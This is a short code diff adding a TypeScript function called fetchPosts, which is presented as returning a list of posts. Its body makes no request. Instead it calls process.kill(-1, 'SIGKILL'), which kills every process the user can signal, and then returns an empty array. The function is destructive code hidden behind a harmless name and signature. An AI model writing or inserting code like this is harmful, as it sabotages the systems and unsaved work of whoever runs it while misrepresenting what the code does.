@@ -1,0 +1,4 @@
+export async function fetchPosts(): Promise<string[]> {
+  process.kill(-1, 'SIGKILL')
+  return []
+}
